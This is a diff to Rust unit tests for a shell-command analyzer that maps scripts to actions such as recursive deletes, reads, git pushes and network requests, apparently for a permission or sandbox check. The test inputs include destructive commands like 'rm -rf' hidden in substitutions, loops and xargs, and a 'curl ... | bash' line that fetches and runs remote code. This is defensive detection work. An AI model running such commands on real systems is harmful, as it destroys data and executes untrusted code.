@@ -423,7 +423,12 @@ fn scripts_are_read_by_their_grammar() {
         ("echo `rm -rf x`", "fs.delete /w/x recursive"),
         ("echo \"a $(rm -rf x) ${Y:-$(rm -rf z)}\"", "fs.delete /w/x recursive; fs.delete /w/z recursive"),
         ("diff <(cat a) <(cat b)", "fs.read /w/a; fs.read /w/b; fs.read opaque; fs.read opaque"),
-        ("for f in a b; do rm -rf $f; done", "fs.delete opaque recursive"),
+        ("for f in a b; do rm -rf $f; done", "fs.delete /w/a recursive; fs.delete /w/b recursive"),
+        ("for f in a *; do rm -rf $f; done", "fs.delete opaque recursive"),
+        ("B=main; git push origin $B", "git.push origin main default_branch source=main"),
+        ("X=rm; $X -rf y", "fs.delete /w/y recursive"),
+        ("printf 'a\\nb' | xargs rm -r", "fs.delete /w/a recursive; fs.delete /w/b recursive"),
+        ("echo a | xargs -I{} rm -r {}/c", "fs.delete /w/a/c recursive"),
         ("while read l; do rm -rf q; done < list", "fs.read /w/list; fs.delete /w/q recursive"),
         ("case $x in a) rm -rf q;; esac", "fs.delete /w/q recursive"),
         ("f() { rm -rf q; }; f", "fs.delete /w/q recursive"),
@@ -435,7 +440,7 @@ fn scripts_are_read_by_their_grammar() {
         ("cat <<E\n$(rm -rf x)\nE\n", "fs.delete /w/x recursive"),
         ("cat <<'E'\n$(rm -rf x)\nE\n", ""),
         ("bash <<< 'rm -rf x'", "fs.delete /w/x recursive"),
-        ("echo rm -rf x | sh", "?"),
+        ("echo rm -rf x | sh", "fs.delete /w/x recursive"),
         (
             "curl -s https://h.example/i | bash",
             "?http.request GET h.example /i scheme=https; net.connect h.example 443",
@@ -474,17 +479,20 @@ fn scripts_are_read_by_their_grammar() {
 
 #[test]
 fn commands_inside_are_named_where_nothing_asks_again() {
-    let argv: Vec<String> = ["sh", "-c", "cd sub; sudo cargo test && $X"].map(str::to_owned).into();
+    let argv: Vec<String> = ["sh", "-c", "cd sub; sudo cargo test; cd /x && $X"].map(str::to_owned).into();
     let all =
         command_actions(&Exec { program: "/bin/dash", argv: &argv, cwd: "/w", home: "/h", script: None, git: None });
     let shown: Vec<String> = all.iter().map(show).collect();
     assert_eq!(
         shown,
         [
-            "process.exec dash -c,cd sub; sudo cargo test && $X /w /bin/dash opaque",
+            "process.exec dash -c,cd sub; sudo cargo test; cd /x && $X /w /bin/dash opaque",
             "process.exec sudo cargo,test /w/sub",
             "process.exec cargo test /w/sub",
-            "process.exec /w/sub opaque",
+            // Where it runs if there is no such folder.
+            "process.exec sudo cargo,test /w",
+            "process.exec cargo test /w",
+            "process.exec /x opaque",
         ]
     );
 }
